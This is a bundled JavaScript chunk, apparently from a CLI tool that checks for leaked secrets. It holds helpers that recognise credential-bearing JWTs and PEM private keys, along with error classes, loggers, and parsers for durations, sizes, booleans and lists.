    const p = payload && decodeSegment(payload);
    if (!h || !p || typeof h.alg !== 'string')
        return false;
    return p.iss === 'kubernetes/serviceaccount' || 'kubernetes.io' in p || String(p.sub ?? '').startsWith('system:serviceaccount:');
}
/** A JWT carrying privileged credential claims (service roles, admin or write scopes, client secrets). */
function isCredentialJwt(jwt) {
    if (isKubernetesServiceAccountToken(jwt))
        return false;
    const [header, payload] = jwt.split('.');
    const h = header && decodeSegment(header);
    const p = payload && decodeSegment(payload);
    if (!h || !p || typeof h.alg !== 'string' || h.alg === 'none')
        return false;
    const role = String(p.role ?? '');
    const scope = [p.scope, p.scp, p.scopes, p.permissions].flat().map(String).join(' ');
    return role === 'service_role' || /\b(?:admin|write|\*)\b/i.test(scope) || 'client_secret' in p || 'api_key' in p;
}
/** A PEM private-key block with a real base64 body, not just a header in a string table. */
function isCompletePemBody(block) {
    const body = block
        .replace(/-----BEGIN [A-Z ]*PRIVATE KEY-----/, '')
        .replace(/-----END [A-Z ]*PRIVATE KEY-----/, '')
        .replace(/^[A-Za-z-]+: .*$/gm, '')
        .replace(/\\n|\\r|["'+\s,]/g, '');
    return body.length >= 64 && /^[A-Za-z0-9+/=]+$/.test(body);
}


/***/ }),

/***/ 70017:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   In: () => (/* binding */ GateFailure),
/* harmony export */   cI: () => (/* binding */ ExecError),
/* harmony export */   dz: () => (/* binding */ InputError),
/* harmony export */   gJ: () => (/* binding */ errorMessage),
/* harmony export */   jD: () => (/* binding */ OrchestratorError),
/* harmony export */   ux: () => (/* binding */ isKnownError)
/* harmony export */ });
/* unused harmony exports Interrupted, exitCodeOf */
/* harmony import */ var node_os__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(48161);
/* harmony import */ var node_os__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_os__WEBPACK_IMPORTED_MODULE_0__);

/**
 * The project's error hierarchy. Exit codes follow the CLI contract:
 * 0 ok, 1 a gate failed (the thing checked is not acceptable), 2 usage, input or any other error.
 */
class OrchestratorError extends Error {
    exitCode = 2;
    constructor(message, options) {
        super(message, options);
        this.name = new.target.name;
    }
}
/** Bad input, a bad spec, a malformed image: the user can fix it. Exit 2. */
class InputError extends OrchestratorError {
}
/** The thing checked is not acceptable (secrets found, server unhealthy). Exit 1. */
class GateFailure extends OrchestratorError {
    exitCode = 1;
}
/** Stopped by a signal (Ctrl-C, SIGTERM) after cleaning up: exit 128 + the signal's number (130, 143), as shells report it. */
class Interrupted extends OrchestratorError {
    signal;
    exitCode;
    constructor(message, signal) {
        super(message);
        this.signal = signal;
        this.exitCode = 128 + (node_os__WEBPACK_IMPORTED_MODULE_0__.constants.signals[signal] ?? 0);
    }
}
/** A command run through `exec` exited non-zero or could not start. Exit 2. */
class ExecError extends OrchestratorError {
    command;
    code;
    stderr;
    constructor(message, command, code, stderr) {
        super(message);
        this.command = command;
        this.code = code;
        this.stderr = stderr;
    }
}
/** True for errors whose message is written for users (no stack trace needed). */
function isKnownError(error) {
    return error instanceof OrchestratorError;
}
function exitCodeOf(error) {
    return isKnownError(error) ? error.exitCode : 2;
}
function errorMessage(error) {
    return error instanceof Error ? error.message : String(error);
}


/***/ }),

/***/ 96618:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   qq: () => (/* binding */ silentLogger)
/* harmony export */ });
/* unused harmony exports RecordingLogger, stderrLogger */
const silentLogger = {
    debug() { },
    info() { },
    warning() { },
    error() { },
};
/** A logger that keeps every line, for tests that assert what was logged. */
class RecordingLogger {
    lines = [];
    debug(message) {
        this.lines.push({ level: 'debug', message });
    }
    info(message) {
        this.lines.push({ level: 'info', message });
    }
    warning(message) {
        this.lines.push({ level: 'warning', message });
    }
    error(message) {
        this.lines.push({ level: 'error', message });
    }
    text() {
        return this.lines.map((l) => `${l.level}: ${l.message}`).join('\n');
    }
}
/** Writes to stderr, so stdout stays clean for JSON output. */
function stderrLogger(options = {}) {
    const write = (prefix, message) => process.stderr.write(`${prefix}${message}\n`);
    return {
        debug: (m) => {
            if (options.verbose)
                write('debug: ', m);
        },
        info: (m) => write('', m),
        warning: (m) => write('warning: ', m),
        error: (m) => write('error: ', m),
    };
}


/***/ }),

/***/ 25303:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   E1: () => (/* binding */ parseList),
/* harmony export */   E9: () => (/* binding */ parseDuration),
/* harmony export */   HU: () => (/* binding */ parseChoice),
/* harmony export */   yG: () => (/* binding */ parseBoolean)
/* harmony export */ });
/* unused harmony exports parseSize, parseInteger */
/* harmony import */ var _errors_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(70017);

/** Parses durations such as `90s`, `5m`, `1h30m`, `250ms`, or a bare number of seconds. */
function parseDuration(value, name = 'duration') {
    const text = value.trim();
    if (/^\d+(\.\d+)?$/.test(text))
        return Math.round(Number(text) * 1000);
    const unitMs = { ms: 1, s: 1000, m: 60_000, h: 3_600_000 };
    const re = /(\d+(?:\.\d+)?)(ms|s|m|h)/gy;
    let total = 0;
    let consumed = 0;
    for (let m = re.exec(text); m; m = re.exec(text)) {
        total += Number(m[1]) * unitMs[m[2]];
        consumed = re.lastIndex;
    }
    if (consumed === 0 || consumed !== text.length) {
        throw new _errors_js__WEBPACK_IMPORTED_MODULE_0__/* .InputError */ .dz(`${name}: "${value}" is not a duration (expected e.g. 30s, 5m, 1h30m, 250ms)`);
    }
    return Math.round(total);
}
/** Parses sizes such as `10MB`, `512KiB`, `2g`, or a bare number of bytes. */
function parseSize(value, name = 'size') {
    const m = /^\s*(\d+(?:\.\d+)?)\s*([kmgt]?i?b?)?\s*$/i.exec(value);
    if (!m)
        throw new InputError(`${name}: "${value}" is not a size (expected e.g. 10MB, 512KiB, 1048576)`);
    const unit = (m[2] ?? '').toLowerCase().replace(/i?b$/, '');
    const pow = ['', 'k', 'm', 'g', 't'].indexOf(unit);
    if (pow < 0)
        throw new InputError(`${name}: unknown unit in "${value}"`);
    return Math.round(Number(m[1]) * 1024 ** pow);
}
/** Parses true/false in the spellings YAML 1.2 core and GitHub inputs use; throws otherwise. */
function parseBoolean(value, name = 'value') {
    const v = value.trim().toLowerCase();
    if (v === 'true' || v === 'yes' || v === 'on' || v === '1')
        return true;
    if (v === 'false' || v === 'no' || v === 'off' || v === '0')
        return false;
    throw new _errors_js__WEBPACK_IMPORTED_MODULE_0__/* .InputError */ .dz(`${name}: "${value}" is not a boolean (expected true or false)`);
}
/** Splits a comma- or newline-separated list, dropping empty items. */
function parseList(value) {
    return value
        .split(/[\n,]/)
        .map((s) => s.trim())
        .filter((s) => s.length > 0);
}
/** Chooses a value from a closed set, naming the choices on error. */
function parseChoice(value, choices, name) {
    if (choices.includes(value))
        return value;
    throw new _errors_js__WEBPACK_IMPORTED_MODULE_0__/* .InputError */ .dz(`${name}: "${value}" is not one of ${choices.join(', ')}`);
}
/** A whole number from `min` to `max`, naming the option on error. */
function parseInteger(text, name, min, max) {
    const n = Number(text);
    if (!Number.isInteger(n) || n < min || n > max)
        throw new InputError(`${name}: "${text}" is not a whole number from ${min} to ${max}`);
    return n;
}


/***/ })

};

//# sourceMappingURL=81.index.js.map